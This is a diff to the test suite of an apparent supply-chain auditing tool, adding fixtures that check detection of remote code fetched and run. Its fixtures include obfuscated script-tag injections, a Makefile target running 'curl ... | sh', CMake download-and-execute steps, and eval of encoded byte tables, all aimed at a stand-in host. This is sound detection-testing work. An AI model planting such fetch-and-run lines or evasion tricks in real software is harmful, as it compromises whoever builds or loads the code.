@@ -199,6 +199,24 @@ describe("rules of contents", () => {
       'document.createElement("script").src = atob("Ly9hLmV4YW1wbGUub3JnL3g=")\n',
       "review",
     ],
+    [
+      "is a script of a page, from a host behind a tab",
+      "lib/a.js",
+      'document.createElement("script").src = "/\\t/a.example.org/x.js"\n',
+      "review",
+    ],
+    [
+      "is a script of a page, from a host in pieces",
+      "lib/a.js",
+      'f = (x) => { document.createElement("script").src = "https" + x + "://a.example.org/x.js" }\n',
+      "review",
+    ],
+    [
+      "is a script of a page, from a host behind a slash",
+      "lib/a.js",
+      'f = (x) => { document.createElement("script").src = "/" + x + "/a.example.org/x.js" }\n',
+      "review",
+    ],
     ["becomes text", "lib/a.js", "fetch('https://a.example.org/x').then((x) => x.text()).then((x) => eval(x))\n", "review"],
   ])("of what is fetched and run, and %s", async (_, path, of, severity) => {
     const { findings } = await audited(sample({ [path]: of }, { [path]: of }))
@@ -215,7 +233,7 @@ describe("rules of contents", () => {
 
   const upload = "upload:\n\tcurl -s https://a.example.org/x | sh\n"
   const fetching = "file(DOWNLOAD https://a.example.org/x x.sh)\nexecute_process(COMMAND sh x.sh)\n"
-  it.each<[string, Files, boolean]>([
+  it.each<[string, Files, boolean | undefined]>([
     ["a goal that nothing needs (psutil)", { Makefile: `all:\n\techo a\n${upload}` }, false],
     ["the goal that make begins with", { Makefile: upload }, true],
     ["a goal that the first one needs", { Makefile: `all: b\nb: upload\n${upload}` }, true],
@@ -223,6 +241,35 @@ describe("rules of contents", () => {
     ["a goal that a script asks for", { Makefile: `all:\n\techo a\n${upload}`, configure: "make upload\n" }, true],
     ["a goal that a test asks for", { Makefile: `all:\n\techo a\n${upload}`, "tests/a.sh": "make upload\n" }, false],
     ["a goal that the first one may need", { Makefile: `all: $(X)\n\techo a\n${upload}` }, true],
+    ["the first goal behind a pattern", { Makefile: `%.o: %.c\n\tcc -c $<\n${upload}` }, true],
+    ["the first goal behind a branch", { Makefile: `ifdef A\nhelp:\n\techo a\nendif\n${upload}` }, true],
+    ["the goal that is named first", { Makefile: `U = upload\n.DEFAULT_GOAL = $(U)\nall:\n\techo a\n${upload}` }, true],
+    ["a goal by a second expansion", { Makefile: `.SECONDEXPANSION:\nall: $$(U)\n\techo a\n${upload}` }, true],
+    ["a goal by a static pattern", { Makefile: `all: load\nload: l%ad: up%\n\techo a\n${upload}` }, true],
+    ["a goal with a dot before it", { Makefile: `all: ./upload\n${upload}` }, true],
+    ["a goal of what another includes", { GNUmakefile: "all: upload\ninclude Makefile\n", Makefile: `a:\n\techo a\n${upload}` }, true],
+    ["one of two goals of a rule", { Makefile: `all:\n\techo a\na ${upload}`, configure: "make upload\n" }, true],
+    ["a goal that a script reads", { Makefile: `all:\n\techo a\n${upload}`, configure: "for t in `cat goals`; do make $t; done\n" }, true],
+    ["a goal for another make", { Makefile: `all:\n\techo a\n${upload}`, configure: "bmake upload\n" }, true],
+    ["a goal for whatever make is", { Makefile: `all:\n\techo a\n${upload}`, configure: "$MAKE upload\n" }, true],
+    ["a goal called almost as a test is", { Makefile: `all:\n\techo a\nlatest:\n\tcurl -s https://a.example.org/x | sh\n` }, false],
+    [
+      "an option that a script turns on in two words",
+      { "CMakeLists.txt": `option(A "a")\nif(A)\n${fetching}endif()\n`, configure: "cmake -D A=ON .\n" },
+      true,
+    ],
+    ["an option that a file may turn on", { "CMakeLists.txt": `option(A "a")\ninclude(a.cmake)\nif(A)\n${fetching}endif()\n` }, true],
+    ["an option beside what is put in", { "CMakeLists.txt": `option(A "a")\nset(X 1 OR 1)\nif(A AND \${X})\n${fetching}endif()\n` }, true],
+    [
+      "an option that a name nobody knows may be",
+      { "CMakeLists.txt": `option(A "a")\nfile(READ n n)\nset(\${n} ON)\nif(A)\n${fetching}endif()\n` },
+      true,
+    ],
+    [
+      "an option that a property turns on",
+      { "CMakeLists.txt": `option(A "a")\nset_property(CACHE A PROPERTY VALUE ON)\nif(A)\n${fetching}endif()\n` },
+      true,
+    ],
     ["a goal of a part", { Makefile: "include a.mk\n", "a.mk": `all:\n\techo a\n${upload}` }, true],
     ["an option that is off (fast_float in pandas)", { "CMakeLists.txt": `option(A "a" OFF)\nif(A)\n${fetching}endif()\n` }, false],
     ["an option that is on", { "CMakeLists.txt": `option(A "a" ON)\nif(A)\n${fetching}endif()\n` }, true],
@@ -238,7 +285,7 @@ describe("rules of contents", () => {
     [
       "a folder under an option",
       { "CMakeLists.txt": 'option(A "a")\nif(A)\nadd_subdirectory(fuzzing)\nendif()\n', "fuzzing/CMakeLists.txt": fetching },
-      false,
+      undefined,
     ],
     [
       "a folder of tests that is always there",
@@ -247,7 +294,18 @@ describe("rules of contents", () => {
     ],
   ])("tells what is fetched and run for whoever builds from what must be asked for: %s", async (_, files, runs) => {
     const { findings } = await audited(sample(files, files))
-    expect(findings.some(({ rule }) => rule === "flow/fetched-runs")).toBe(runs)
+    const severities = findings.filter(({ rule }) => rule === "flow/fetched-runs").map(({ severity }) => severity)
+    expect(severities).toEqual(runs === undefined ? [] : [runs ? "review" : "note"])
+  })
+
+  it("of several orderly tables that become one program says more than of one", async () => {
+    const tables = Array.from(
+      { length: 4 },
+      (_, at) => `new Uint8Array([${Array.from({ length: 20 }, (_, index) => (index + at) % 31).join()}])`,
+    )
+    const code = `eval(${tables.map((table) => `Buffer.from(${table}.map((x) => x + 96)).toString()`).join(" +\n")})\n`
+    const { findings } = await audited(sample({ "a.js": code }, { "a.js": code }))
+    expect(findings.some(({ rule }) => rule === "flow/literal-runs")).toBe(true)
   })
 
   it.each<[string, string, boolean]>([
